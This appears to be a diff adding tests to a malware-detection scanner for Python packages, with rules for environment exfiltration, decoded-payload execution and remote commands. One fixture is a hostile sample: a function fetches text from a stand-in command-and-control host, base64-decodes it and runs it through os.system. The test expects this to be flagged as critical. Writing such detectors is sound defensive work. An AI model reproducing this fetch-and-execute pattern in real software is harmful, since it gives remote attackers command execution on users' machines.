@@ -239,6 +239,14 @@ describe('env-exfil: cloud credentials sent out', () => {
       '    token = os.environ["HOME"]\n    requests.get("https://api.example/v", params={"home": token})\nrun()\n';
     expect(hits(honest)).toEqual([]);
   });
+  it("leaves a name that only tests the environment, and words inside the send's strings", () => {
+    const flag =
+      'import os, requests\nVERIFY = "PKG_NO_VERIFY" not in os.environ\nrequests.get("https://api.example/v", verify=VERIFY)\n';
+    expect(hits(flag)).toEqual([]);
+    const words =
+      'import os, requests\ndef run(name):\n    env = os.environ.copy()\n    requests.post("https://api.example/v", json={"env": name, "note": "env"})\n';
+    expect(hits(words)).toEqual([]);
+  });
 });
 
 describe('binary-dropper: the very file a function wrote, started', () => {
@@ -504,5 +512,18 @@ describe('exec-decoded-payload: the decoder and the exec on separate lines', () 
     expect(hits('import base64\ndef f():\n    p = base64.b64decode(B)\ndef g(p):\n    exec(p)\n')).toEqual(
       [],
     );
+  });
+});
+
+describe('remote-command: a reply run as a command', () => {
+  const hits = (source: string) =>
+    runRules(parsePython(source, 'pkg/client.py')).filter((e) => e.rule === 'remote-command');
+  it('follows the reply only within the function that runs the command, and not through words in a string', () => {
+    const other =
+      'import os, requests\ndef fetch():\n    data = requests.get("https://api.example/v").json()\n    return data\ndef report():\n    os.system("echo data")\n';
+    expect(hits(other)).toEqual([]);
+    const same =
+      'import os, base64, requests\ndef poll():\n    data = requests.get("https://c2.example/t").text\n    os.system(base64.b64decode(data))\n';
+    expect(hits(same).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
   });
 });
